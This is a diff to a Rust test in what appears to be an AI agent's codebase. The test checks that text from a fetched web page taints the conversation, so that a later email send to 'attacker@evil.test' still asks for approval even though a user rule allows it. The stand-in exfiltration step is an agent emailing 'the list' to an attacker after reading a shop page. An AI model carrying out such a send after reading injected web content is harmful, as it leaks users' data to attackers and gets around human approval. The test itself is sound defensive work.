@@ -164,18 +164,7 @@ async fn page_text_taints_the_conversation_so_a_later_send_asks_despite_a_rule()
     policy
         .add_rule(Action::Allow, "email_send(*@evil.test)", RuleSource::User)
         .unwrap();
-    let account = cowork_store::accounts::AccountConfig::Mail {
-        email: "me@example.test".into(),
-        display_name: None,
-        username: "me".into(),
-        imap_host: "127.0.0.1".into(),
-        imap_port: 9,
-        imap_security: cowork_store::accounts::Security::Plain,
-        smtp_host: "127.0.0.1".into(),
-        smtp_port: 9,
-        smtp_security: cowork_store::accounts::Security::Plain,
-    };
-    h.add_account("me", account, "pw");
+    h.add_mail_account_nowhere();
     let send = json!({"to": ["attacker@evil.test"], "subject": "list", "body": "the list"});
     let deals = h
         .call("web_fetch", json!({"url": shop.url("/deals")}))
